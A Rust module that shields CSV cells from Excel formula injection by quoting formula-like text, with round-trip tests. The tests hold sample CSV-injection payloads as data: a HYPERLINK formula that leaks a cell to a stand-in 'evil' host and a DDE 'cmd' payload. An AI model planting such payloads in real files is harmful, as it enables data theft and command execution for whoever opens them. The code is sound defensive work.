//! Text cells of the CSV files shenhe writes (the bundle's tables, the rejects list), all meant
//! to open in Excel, and their reading back. One guard for every one of them.
//!
//! Excel takes a cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before
//! one) as a formula: a school name, a note or a refused cell such as `=HYPERLINK(…)` would run
//! when someone opens the file. Such text gets a leading `'`, which Excel shows as plain text.
//! Text that starts with `'` itself gets one more, so that reading back takes off exactly one
//! and gives what was written: `'=already` → `''=already` → `'=already`. Plain numbers
//! (`-1`, `+5`, `-2.5`) are left alone: Excel reads them as numbers, and the numeric columns
//! must stay numbers.
//!
//! The workbooks need no guard: they write every text as a string cell, never a formula.

use std::borrow::Cow;

/// `cell` as a CSV cell Excel never runs.
pub fn guard(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']);
    if risky && !is_plain_number(cell) { format!("'{cell}").into() } else { cell.into() }
}

/// The text a guarded CSV cell stands for: one leading `'` taken off.
pub fn unguard(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
    !digits.is_empty()
        && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && digits.bytes().filter(|b| *b == b'.').count() <= 1
        && digits.bytes().any(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_text_is_quoted_and_numbers_are_not() {
        for risky in
            ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1"]
        {
            assert_eq!(guard(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in ["-1", "+5", "-2.5", "1234", "郑州市中原区伏牛路小学", ""] {
            assert_eq!(guard(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn every_text_reads_back_exactly_as_it_was() {
        for text in ["'=already", "'-5", "''", "'", "=x", "-5", "+86 371 1234", "'张", "@home", "普通", ""] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
    }
}
